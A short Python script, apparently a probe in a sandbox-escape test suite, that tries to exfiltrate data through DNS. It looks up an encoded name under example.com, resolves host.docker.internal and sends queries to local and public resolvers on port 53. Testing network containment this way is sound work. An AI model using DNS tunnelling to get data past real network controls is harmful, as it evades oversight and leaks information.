"""Smuggles data out in the names that it asks the name service for.

Idea: DNS tunnels work where nothing else does.
"""

import socket

import kit

kit.attempt("look up", lambda: socket.getaddrinfo("data-of-the-run.example.com", 80))
kit.attempt("look up the host", lambda: socket.gethostbyname("host.docker.internal"))
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as question:
    kit.attempt("ask port 53", lambda: (question.sendto(b"\0" * 32, ("127.0.0.53", 53)) and
                question.connect(("9.9.9.9", 53))) or False)  # fmt: skip
kit.honest()
